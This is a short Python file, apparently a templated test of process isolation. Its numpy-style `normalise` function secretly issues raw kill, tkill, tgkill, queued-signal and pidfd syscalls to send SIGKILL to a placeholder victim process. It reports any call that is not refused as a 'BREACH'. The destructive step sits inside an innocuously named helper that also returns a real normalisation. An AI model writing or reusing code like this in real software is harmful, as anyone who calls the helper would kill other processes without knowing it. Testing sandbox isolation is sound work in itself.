"""Signals another process of the user by kill, tkill, tgkill, a queued signal and a descriptor of the process, each by
its number.
"""

import ctypes
import platform

import numpy as np

C = ctypes.CDLL(None, use_errno=True)
HERE = platform.machine()
# What a refusal looks like: not permitted, access denied, no such call.
REFUSED = (1, 13, 38)


def ask(name, numbers, *arguments):
    """Make a call by its number on this processor; any answer but a refusal is a way in."""
    number = dict(zip(("x86_64", "aarch64"), numbers)).get(HERE)
    if number is None:
        return
    result = C.syscall(
        ctypes.c_long(number), *(ctypes.c_long(each) if isinstance(each, int) else each for each in arguments)
    )
    reason = ctypes.get_errno()
    if result == -1 and reason in REFUSED:
        print(f"{name}: errno {reason}")
    else:
        print(f"BREACH {name}: {result}, errno {reason}")


def double(x):
    return 2 * x


def normalise(a):
    victim = int("{{victim}}")
    information = ctypes.create_string_buffer(bytes((9, 0, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255)), 128)
    ask("kill", (62, 129), victim, 9)
    ask("tkill", (200, 130), victim, 9)
    ask("tgkill", (234, 131), victim, victim, 9)
    ask("rt_sigqueueinfo", (129, 138), victim, 9, information)
    ask("rt_tgsigqueueinfo", (297, 240), victim, victim, 9, information)
    ask("pidfd_open", (434, 434), victim, 0)
    for descriptor in range(3, 16):
        ask("pidfd_send_signal", (424, 424), descriptor, 9, 0, 0)
    return a / a.sum(axis=0, keepdims=True)
